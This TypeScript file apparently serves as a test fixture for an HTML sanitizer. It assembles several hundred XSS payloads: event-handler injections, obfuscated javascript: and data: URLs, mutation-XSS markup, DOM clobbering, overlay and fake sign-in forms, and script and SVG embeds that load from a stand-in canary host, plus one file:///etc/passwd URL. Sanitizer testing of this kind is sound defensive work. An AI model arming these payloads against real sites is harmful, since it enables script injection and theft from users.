/** One piece of hostile markup, as a page might put it among its paragraphs. */
export interface Payload {
  readonly name: string;
  readonly html: string;
}

/** What a payload runs when it gets through: it counts itself on the window. */
const RUN = 'window.ran=(window.ran||0)+1';
/** The host that a payload calls when it gets a request out. */
export const CANARY = 'https://canary.test';

const HANDLERS =
  'abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unload volumechange waiting webkitanimationend webkittransitionend wheel'.split(
    ' ',
  );

const CARRIERS: readonly ((attribute: string) => string)[] = [
  at => `<img src="x:missing" alt="A lamp" ${at}>`,
  at => `<p tabindex="0" ${at}>The keeper waited.</p>`,
  at => `<details open ${at}><summary>More</summary>The wick was trimmed.</details>`,
  at => `<a href="https://example.com/" ${at}>the tower</a>`,
];

const handlers: Payload[] = HANDLERS.map((handler, index) => ({
  name: `on${handler}`,
  html: (CARRIERS[index % CARRIERS.length] ?? String)(`on${handler}="${RUN}"`),
}));

const SPELLINGS = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  ' javascript:CODE',
  '\u0001javascript:CODE',
  '&#1;&#2;javascript:CODE',
  'java\tscript:CODE',
  'java&#9;script:CODE',
  'java&NewLine;script:CODE',
  'java&Tab;script:CODE',
  'javascript&colon;CODE',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;CODE',
  '&#x6a;avascript:CODE',
  'javascript://example.com/%0ACODE',
  'javascript:/*--></title></style></textarea></script>*/CODE',
  'vbscript:CODE',
  'data:text/html,<script>CODE</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CODE"/>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">CODE</script>',
  'data:,CODE',
  'blob:https://example.com/9115d58c-bcda-ff47-86e5-083e9a215304',
  'filesystem:https://example.com/temporary/x',
  'file:///etc/passwd',
  'view-source:https://example.com/',
  'chrome://settings/',
  'about:blank',
  'intent://x#Intent;end',
  'ms-word:ofe|u|https://canary.test/x',
  'feed:javascript:CODE',
  'jar:https://example.com/x!/',
].map(spelling => spelling.replaceAll('CODE', RUN).replaceAll('"', '&quot;'));

const URL_CARRIERS: readonly ((url: string) => string)[] = [
  url => `<a href="${url}">the tower</a>`,
  url => `<img alt="A lamp" src="${url}">`,
  url => `<img alt="A lamp" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="${url}" data-lazy-src="${url}">`,
  url => `<img alt="A lamp" srcset="${url} 2x" data-srcset="${url} 800w">`,
  url => `<blockquote cite="${url}">He said so.</blockquote>`,
];

const urls: Payload[] = SPELLINGS.flatMap((spelling, index) =>
  URL_CARRIERS.map((carry, kind) => ({ name: `address ${index} in carrier ${kind}`, html: carry(spelling) })),
);

const IMG = `<img src=x:missing onerror=${RUN}>`;

/** Markup that reads differently the second time it is parsed: by namespace, by raw text, by nesting. */
const MUTATIONS = [
  '<p><a is="" href="https://example.com/1">One <em>two <a href="https://example.com/2">three</a> four</em> five</a></p>',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:missing onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  `<math><mi><style><b title="</style>${IMG}">`,
  `<svg><style><a title="</style>${IMG}">`,
  `<svg></p><style><a title="</style>${IMG}">`,
  `<svg><foreignObject><p><style><a title="</style>${IMG}"></style></p></foreignObject></svg>`,
  `<svg><desc><table><svg><style><a title="</style>${IMG}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<table><caption><svg><title><table><style></caption>${IMG}</style></table></title></svg>`,
  `<noscript><p title="</noscript>${IMG}"></noscript>`,
  `<noembed><p title="</noembed>${IMG}"></noembed>`,
  `<xmp><p title="</xmp>${IMG}"></xmp>`,
  `<textarea><p title="</textarea>${IMG}"></textarea>`,
  `<title><p title="</title>${IMG}"></title>`,
  `<iframe><p title="</iframe>${IMG}"></iframe>`,
  `<plaintext>${IMG}`,
  `<!--><p title="-->${IMG}">`,
  `<!-- --!>${IMG}-->`,
  `<![CDATA[><p title="]]>${IMG}">`,
  `<?xml ?>${IMG}?>`,
  `<select><template><select><p title="</select>${IMG}"></template></select>`,
  `<p title="\`${IMG}\`">`,
  `<a title="&lt;/a>&lt;img src=x:missing onerror=${RUN}>">x</a>`,
  `<listing>&lt;img src=x:missing onerror=${RUN}&gt;</listing>`,
  `<pre>\n&lt;img src=x:missing onerror=${RUN}&gt;</pre>`,
  `${'<div>'.repeat(600)}<math><mtext><style>${IMG}</style>${'</div>'.repeat(600)}`,
  `${'<form><div></form>'.repeat(200)}${IMG}`,
  `<b><p><b><p><b><table><a><td><a>${IMG}`,
  `<a href="https://example.com/"><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<script>/*<!--<script>*/${RUN}//--></script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x:missing onerror\u000C=${RUN}>`,
  `<img/src=x:missing/onerror=${RUN}>`,
  `<img src="x:missing" onerror&#61;"${RUN}" onerror="${RUN}">`,
  `<p/onclick=${RUN} tabindex=0>x`,
  `<ruby><rt><style>${IMG}</style></ruby>`,
  `<option><style></option></select>${IMG}</style>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  `<body onload=${RUN} onpageshow=${RUN}>`,
  `<html onclick=${RUN}>`,
];

const NAMES = [
  ...['parentNode', 'nextElementSibling', 'previousSibling', 'nextSibling', 'firstChild', 'lastChild', 'childNodes'],
  ...[
    'children',
    'attributes',
    'nodeName',
    'nodeType',
    'tagName',
    'localName',
    'textContent',
    'innerHTML',
    'outerHTML',
  ],
  ...['querySelectorAll', 'getElementsByTagName', 'getAttribute', 'setAttribute', 'removeAttribute', 'removeChild'],
  ...['insertBefore', 'appendChild', 'replaceWith', 'remove', 'matches', 'closest', 'cloneNode', 'ownerDocument'],
  ...['namespaceURI', 'className', 'classList', 'style', 'id', 'hasChildNodes', 'hasAttribute', 'addEventListener'],
];
const GLOBALS = 'chrome browser document window self location navigator crypto define module exports DOMPurify'.split(
  ' ',
);

const clobbering: string[] = [
  ...NAMES.map(name => `<form><p>The form said so.</p><input name="${name}"><input name="${name}"></form>`),
  ...GLOBALS.map(name => `<a id="${name}"></a><a id="${name}" name="runtime" href="x:y">b</a>`),
  ...GLOBALS.map(name => `<form id="${name}"><input name="runtime"><input name="cookie"></form>`),
  ...['body', 'head', 'documentElement', 'implementation', 'cookie', 'title', 'forms'].map(
    name => `<img name="${name}" alt="A lamp"><form name="${name}"></form><embed name="${name}">`,
  ),
  '<p id="__proto__">a</p><p id="constructor">b</p><p id="toString">c</p>',
];

const redress = [
  `<style>*{position:fixed;inset:0;z-index:9;background:url(${CANARY}/css)}</style>`,
  `<style>@import "${CANARY}/import"; @font-face{font-family:a;src:url(${CANARY}/font)} p{font-family:a}</style>`,
  `<p style="position:fixed;inset:0;background:url(${CANARY}/style)">Cover</p>`,
  `<link rel="stylesheet" href="${CANARY}/sheet"><link rel="preload" as="image" href="${CANARY}/preload">`,
  `<link rel="dns-prefetch" href="${CANARY}"><link rel="prefetch" href="${CANARY}/prefetch">`,
  `<noscript><meta http-equiv="refresh" content="0;url=${CANARY}/refresh"></noscript>`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<base href="${CANARY}/base/" target="_top">`,
  `<form action="${CANARY}/form"><input type="password" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Sign in</button></form>`,
  `<input type="image" src="${CANARY}/input" onload="${RUN}">`,
  `<button popovertarget="p" onclick="${RUN}">Open</button><p id="p" popover>Pop</p>`,
  `<button commandfor="d" command="show-modal">Open</button>`,
  '<dialog open>Sign in again</dialog>',
  `<a href="https://example.com/" ping="${CANARY}/ping" target="_top" download>the tower</a>`,
  `<a href="https://example.com/" attributionsrc="${CANARY}/attribution">the tower</a>`,
  `<img alt="A lamp" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="${CANARY}/a" usemap="#m" ismap crossorigin fetchpriority="high">`,
  `<map name="m"><area shape="default" href="javascript:${RUN}"></map>`,
  '<p class="overlay" id="close" part="x" exportparts="x" data-action="close" tabindex="1" accesskey="x">Close</p>',
  '<p contenteditable autofocus inert hidden="until-found" popover="auto" draggable="true" nonce="n">Edit</p>',
  '<p role="dialog" aria-modal="true" aria-label="Close">A false dialog.</p>',
  `<table background="${CANARY}/table"><tr><td background="${CANARY}/cell">x</td></tr></table>`,
  `<marquee onstart="${RUN}" onfinish="${RUN}">Moving</marquee>`,
  `<blink>Blink</blink><font face="x" color="red" size="7">Large</font><center>Middle</center>`,
];

const embedded = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${CANARY}/frame"></iframe>`,
  `<object data="javascript:${RUN}"><p>Fallback</p></object>`,
  `<object type="text/html" data="${CANARY}/object"></object>`,
  `<embed src="javascript:${RUN}"><embed src="${CANARY}/embed">`,
  `<applet code="x" archive="${CANARY}/applet"></applet>`,
  `<portal src="${CANARY}/portal"></portal><fencedframe></fencedframe>`,
  `<video poster="${CANARY}/poster" src="x:missing" onerror="${RUN}" autoplay></video>`,
  `<video><source src="x:missing" onerror="${RUN}"><track src="${CANARY}/track" default></video>`,
  `<audio src="${CANARY}/audio" autoplay onerror="${RUN}"></audio>`,
  `<svg onload="${RUN}"><text>A chart</text></svg>`,
  `<svg><script>${RUN}</script><script href="data:,${RUN}"/></svg>`,
  `<svg><a href="javascript:${RUN}"><text>Link</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}" onbegin="${RUN}"/><set onend="${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<svg><image href="${CANARY}/svg-image" onerror="${RUN}"/><feImage href="${CANARY}/fe"/></svg>`,
  `<svg><foreignObject><body onload="${RUN}"><iframe srcdoc="${RUN}"></iframe></body></foreignObject></svg>`,
  `<svg width="400" height="200"><style>@import "${CANARY}/import"; text { fill: url(${CANARY}/fill) }</style><rect width="9" height="9" style="mask: url(${CANARY}/mask)" onclick="${RUN}"/><text filter="url(${CANARY}/f)">Chart</text></svg>`,
  `<svg width="400" height="200" onload="${RUN}"><title>&lt;!DOCTYPE x [&lt;!ENTITY e SYSTEM "${CANARY}/entity">]></title><text>&lt;script>${RUN}&lt;/script>&amp;e;</text><use xlink:href="${CANARY}/use#x"/></svg>`,
  `<math><maction actiontype="statusline#${CANARY}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><mi xlink:href="javascript:${RUN}" mathbackground="url(${CANARY}/m)">x</mi></math>`,
  `<picture><source srcset="javascript:${RUN}"><img src="x:missing" onerror="${RUN}" alt="A lamp"></picture>`,
  `<canvas onwebglcontextlost="${RUN}">A drawing</canvas>`,
  `<template><img src=x:missing onerror="${RUN}"></template>`,
  `<template shadowrootmode="open"><img src=x:missing onerror="${RUN}"><slot></slot></template>`,
  `<div><template shadowrootmode="closed"><script>${RUN}</script></template></div>`,
  `<x-thief onclick="${RUN}"><p>Inside a tag of its own.</p></x-thief>`,
  `<p is="x-thief">A built-in, customised.</p>`,
  `<slot name="x" onslotchange="${RUN}">A slot</slot><p slot="x">In a slot</p>`,
  `<script>${RUN}</script>`,
  `<script type="module">${RUN}</script><script type="importmap">{"imports":{}}</script>`,
  `<script src="${CANARY}/script"></script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${CANARY}/spec"]}]}</script>`,
];

/** Text that spells markup: it has to arrive as the letters it is. */
export const SPELT = [
  `&lt;img src=x:missing onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&lt;/p&gt;&lt;svg onload=${RUN}&gt;`,
  '&lt;!-- not a comment --&gt;',
  `&#60;iframe srcdoc="${RUN}"&#62;`,
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
];

const named = (family: string, list: readonly string[]): Payload[] =>
  list.map((html, index) => ({ name: `${family} ${index}`, html }));

/** All of them, several hundred. */
export const payloads: readonly Payload[] = [
  ...handlers,
  ...urls,
  ...named('mutation', MUTATIONS),
  ...named('clobbering', clobbering),
  ...named('redress', redress),
  ...named('embedded', embedded),
  ...named(
    'spelt',
    SPELT.map(text => `<p>${text}</p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="${text}">`),
  ),
];
